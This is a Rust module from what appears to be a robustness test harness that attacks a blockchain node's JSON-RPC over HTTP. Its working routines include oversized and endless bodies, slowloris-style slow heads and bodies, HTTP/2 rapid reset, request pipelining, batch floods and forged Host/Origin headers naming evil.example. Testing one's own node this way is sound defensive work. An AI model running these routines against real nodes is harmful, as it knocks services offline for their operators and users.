//! Attack the RPC over HTTP: sizes, slowness, numbers of connections, what is no HTTP at all.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::{sleep, timeout};

use super::wire::{Answer, Window, Wire, post};
use super::{CALL, Hit};

/// Written at a time.
const PIECE: usize = 64 << 10;
/// Just below what a node reads of one request.
const LARGE_BODY: usize = 2_000_000;
/// Between two bytes of somebody slow.
const DRIP: Duration = Duration::from_millis(400);
/// How long a slow reader reads nothing, before it begins anew.
const UNREAD: Duration = Duration::from_secs(40);
/// Requests sent without waiting for answers.
const PIPELINED: usize = 1_000;
/// How long an answer is waited for.
const ANSWER: Duration = Duration::from_secs(30);

fn head_of(hit: &Hit<'_>, more: &str) -> String {
    format!(
        "POST / HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n{more}\r\n",
        hit.target.rpc
    )
}

/// Sends pieces for ever; what the node says meanwhile is its answer.
async fn pour(hit: &Hit<'_>, mut wire: Wire, head: &str, piece: &[u8]) -> io::Result<()> {
    wire.send(head.as_bytes()).await?;
    let answered = {
        // Both directions at once: a node that has seen enough answers and reads no more.
        let (mut reader, mut writer) = wire.stream.split();
        let mut answer = Vec::new();
        let pouring = async {
            loop {
                writer.write_all(piece).await?;
            }
        };
        let reading = tokio::io::AsyncReadExt::read_buf(&mut reader, &mut answer);
        let read: io::Result<usize> = tokio::select! {
            read = reading => read,
            failed = pouring => failed,
        };
        read.map(|_read| answer)
    };
    match answered {
        Ok(answer) if !answer.is_empty() => {
            let text = String::from_utf8_lossy(&answer).into_owned();
            hit.note(text.split(' ').nth(1).unwrap_or("nothing"));
        }
        Ok(_) | Err(_) => hit.note("closed"),
    }
    Ok(())
}

/// A body of more bytes than the node reads, as the head says.
pub(super) async fn oversized_body(hit: Hit<'_>) -> io::Result<()> {
    let wire = hit.open(Window::Usual).await?;
    let head = head_of(&hit, "content-length: 1073741824\r\n");
    pour(&hit, wire, &head, &[b' '; PIECE]).await
}

/// A body in chunks that never ends.
pub(super) async fn endless_body(hit: Hit<'_>) -> io::Result<()> {
    let wire = hit.open(Window::Usual).await?;
    let head = head_of(&hit, "transfer-encoding: chunked\r\n");
    let chunk = format!("{PIECE:x}\r\n{}\r\n", " ".repeat(PIECE));
    pour(&hit, wire, &head, chunk.as_bytes()).await
}

/// Lines of a head that never end.
pub(super) async fn huge_head(hit: Hit<'_>) -> io::Result<()> {
    let wire = hit.open(Window::Usual).await?;
    let lines = "x-padding: 0123456789\r\n".repeat(100);
    pour(&hit, wire, "POST / HTTP/1.1\r\n", lines.as_bytes()).await
}

/// Sends `bytes` one at a time, slowly, until the node answers or closes.
async fn drip(hit: &Hit<'_>, mut wire: Wire, bytes: &[u8]) -> io::Result<()> {
    for byte in bytes.iter().cycle() {
        if wire.send(std::slice::from_ref(byte)).await.is_err() {
            break;
        }
        if let Ok(answer) = timeout(DRIP, wire.answer()).await {
            let status = answer.map_or("closed".to_owned(), |answer| answer.status.to_string());
            hit.note(&status);
            return Ok(());
        }
    }
    hit.note("closed");
    Ok(())
}

/// A head that comes a byte at a time.
pub(super) async fn slow_head(hit: Hit<'_>) -> io::Result<()> {
    let mut wire = hit.open(Window::Usual).await?;
    wire.send(b"POST / HTTP/1.1\r\nhost: localhost\r\nx-slow: ")
        .await?;
    drip(&hit, wire, b"a").await
}

/// A large body whose end comes a byte at a time, while the node holds what has come.
pub(super) async fn slow_body(hit: Hit<'_>) -> io::Result<()> {
    let mut wire = hit.open(Window::Usual).await?;
    let length = format!("content-length: {LARGE_BODY}\r\n");
    wire.send(head_of(&hit, &length).as_bytes()).await?;
    wire.send(&vec![b' '; LARGE_BODY - PIECE]).await?;
    drip(&hit, wire, b" ").await
}

/// Asks for the largest answers there are, and reads nothing.
pub(super) async fn slow_reader(hit: Hit<'_>) -> io::Result<()> {
    let mut wire = hit.open(Window::Narrow).await?;
    let request = post(&hit.target.rpc.to_string(), hit.target.largest().as_bytes());
    for _ in 0..4 {
        wire.send(&request).await?;
    }
    hit.note("unread");
    sleep(UNREAD).await;
    Ok(())
}

/// Connects, and says nothing.
pub(super) async fn idle(hit: Hit<'_>) -> io::Result<()> {
    let mut wire = hit.open(Window::Usual).await?;
    wire.closed().await?;
    hit.note("closed");
    Ok(())
}

/// Connects, asks, and is gone before the answer.
pub(super) async fn churn(hit: Hit<'_>) -> io::Result<()> {
    let mut wire = hit.open(Window::Usual).await?;
    wire.send(&post(&hit.target.rpc.to_string(), CALL.as_bytes()))
        .await?;
    hit.note("gone");
    Ok(())
}

/// What HTTP/2 begins with, and frames of it that open streams and reset them at once.
pub(super) async fn rapid_reset(hit: Hit<'_>) -> io::Result<()> {
    let mut wire = hit.open(Window::Usual).await?;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    for stream in (1_u32..2_000).step_by(2) {
        let id = stream.to_be_bytes();
        bytes.extend([&b"\0\0\x01\x01\x05"[..], &id, b"\x82"].concat());
        bytes.extend([&b"\0\0\x04\x03\0"[..], &id, b"\0\0\0\x08"].concat());
    }
    // A node that closes at once does not take them all.
    let _sent = wire.send(&bytes).await;
    hit.note_answer(timeout(ANSWER, wire.answer()).await);
    Ok(())
}

/// Many requests at once on one connection, and all answers.
pub(super) async fn pipelined(hit: Hit<'_>) -> io::Result<()> {
    let mut wire = hit.open(Window::Usual).await?;
    let one = post(&hit.target.rpc.to_string(), CALL.as_bytes());
    let all = one.repeat(PIPELINED);
    let (mut sent, mut answered) = (0, 0);
    // By pieces: neither side may wait for the other to read.
    while answered < PIPELINED {
        let end = all.len().min(sent + 20 * one.len());
        wire.send(&all[sent..end]).await?;
        let count = (end - sent) / one.len();
        sent = end;
        for _ in 0..count {
            hit.note_answer(timeout(ANSWER, wire.answer()).await);
        }
        answered += count;
    }
    Ok(())
}

/// Requests as a web page elsewhere would have a browser send them.
pub(super) async fn foreign(hit: Hit<'_>) -> io::Result<()> {
    let rpc = hit.target.rpc;
    let upgrade = "connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n\
        sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    let content = format!(
        "content-type: application/json\r\ncontent-length: {}\r\n",
        CALL.len()
    );
    let hosts = [
        "host: evil.example".to_owned(),
        "host: 127.0.0.1.evil.example".to_owned(),
        format!("host: evil.example\r\nhost: {rpc}"),
        format!("host: {rpc}\r\norigin: https://evil.example"),
        format!("host: {rpc}\r\norigin: null"),
        format!("host: {rpc}\r\norigin: http://localhost.evil.example:3000"),
    ];
    for host in hosts {
        for request in [
            format!("POST / HTTP/1.1\r\n{host}\r\n{content}\r\n{CALL}"),
            format!("GET / HTTP/1.1\r\n{host}\r\n{upgrade}\r\n"),
            format!("OPTIONS / HTTP/1.1\r\n{host}\r\n\r\n"),
        ] {
            let mut wire = hit.open(Window::Usual).await?;
            wire.send(request.as_bytes()).await?;
            hit.note_answer(timeout(ANSWER, wire.answer()).await);
        }
    }
    Ok(())
}

/// Posts a body again and again on one connection.
async fn post_again(hit: &Hit<'_>, body: &[u8], times: usize) -> io::Result<()> {
    let mut wire = hit.open(Window::Usual).await?;
    for _ in 0..times {
        let answer: Answer = timeout(ANSWER, wire.post(body)).await??;
        hit.note_json(answer.status, &answer.body);
    }
    Ok(())
}

/// More calls in a batch than a node takes.
pub(super) async fn long_batch(hit: Hit<'_>) -> io::Result<()> {
    let batch = format!("[{}]", vec![CALL; 1_000].join(","));
    post_again(&hit, batch.as_bytes(), 8).await
}

/// As many cheap calls in a batch as a node takes.
pub(super) async fn cheap_batch(hit: Hit<'_>) -> io::Result<()> {
    let call = r#"{"jsonrpc":"2.0","id":1,"method":"chain_getInfo"}"#;
    let batch = format!("[{}]", vec![call; 100].join(","));
    post_again(&hit, batch.as_bytes(), 8).await
}

/// As many of the largest reads in a batch as a node takes.
pub(super) async fn dear_batch(hit: Hit<'_>) -> io::Result<()> {
    let batch = format!("[{}]", vec![hit.target.largest(); 100].join(","));
    post_again(&hit, batch.as_bytes(), 1).await
}

/// The dearest calls that anybody may make, one kind for each connection.
pub(super) async fn dear_calls(hit: Hit<'_>) -> io::Result<()> {
    let calls = hit.target.dearest();
    let index = hit.number % calls.len();
    match calls.get(index) {
        Some(call) => post_again(&hit, call.as_bytes(), 4).await,
        None => Ok(()),
    }
}
